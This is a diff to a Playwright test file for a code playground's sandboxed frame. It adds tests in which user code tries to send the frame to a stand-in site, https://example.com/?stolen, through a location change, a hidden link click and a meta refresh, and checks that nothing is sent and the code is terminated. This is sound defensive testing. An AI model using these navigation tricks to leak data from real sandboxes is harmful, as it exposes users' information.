@@ -1,4 +1,4 @@
-import { expect, type Page, test } from '@playwright/test';
+import { expect, type Page, test } from './test.ts';
 
 const path = '/contributing/elements';
 
@@ -140,6 +140,36 @@ test.describe('does no harm to the page:', () => {
       '1',
     ]);
   });
+});
+
+test.describe('code that leads its frame to another site', () => {
+  test.use({ expectedViolations: { all: [/frame-src blocks https:\/\/example\.com/] } });
+
+  for (const [what, code] of [
+    ['by location', "location.href = 'https://example.com/?stolen'; export default 1"],
+    [
+      'by a link whose click stays hidden',
+      "const a = document.createElement('a'); a.href = 'https://example.com/?stolen'; a.onclick = (event) => event.stopPropagation(); document.body.append(a); a.click(); export default 1",
+    ],
+    [
+      'by a refresh',
+      "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=https://example.com/?stolen'; document.head.append(m); export default 1",
+    ],
+  ] as const) {
+    test(`${what} sends nothing and is terminated`, async ({ page, context }) => {
+      const sent: string[] = [];
+      await context.route('https://example.com/**', (route) => {
+        sent.push(route.request().url());
+        return route.fulfill({ body: 'taken' });
+      });
+      const { editor, status, result } = await openPlayground(page);
+      await editor.fill(code);
+      await expect(status).toHaveText(/tried to leave the playground and was terminated/);
+      expect(sent).toEqual([]);
+      await editor.fill('<p>well again</p>');
+      await expect(result.getByText('well again')).toBeVisible();
+    });
+  }
 });
 
 test('the document of the frame runs nothing when it is opened by itself', async ({ page }) => {
